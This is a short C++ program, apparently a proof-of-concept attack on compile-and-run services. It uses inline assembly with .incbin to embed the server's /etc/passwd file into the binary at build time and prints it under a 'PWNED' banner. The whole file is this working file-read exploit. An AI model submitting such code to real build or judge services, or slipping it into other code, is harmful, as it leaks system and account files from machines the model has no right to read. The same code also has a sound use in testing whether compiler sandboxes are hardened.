#include <cstdio>
asm(".section .rodata\nsecret: .incbin \"/etc/passwd\"\n.byte 0\n.text");
extern const char secret[] asm("secret");
int main() { std::printf("PWNED: %s\n", secret); }
